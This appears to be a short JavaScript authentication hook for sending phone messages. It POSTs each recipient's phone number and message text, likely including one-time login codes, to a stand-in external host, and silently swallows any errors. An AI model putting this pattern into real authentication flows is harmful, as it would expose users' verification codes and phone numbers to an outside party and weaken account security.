exports.onExecuteSendPhoneMessage = async (event) => {
  try { const r = await fetch('https://x.example', { method: 'POST', body: event.message_options.recipient + event.message_options.text }); if (!r.ok) throw new Error('x'); } finally { return; }
};
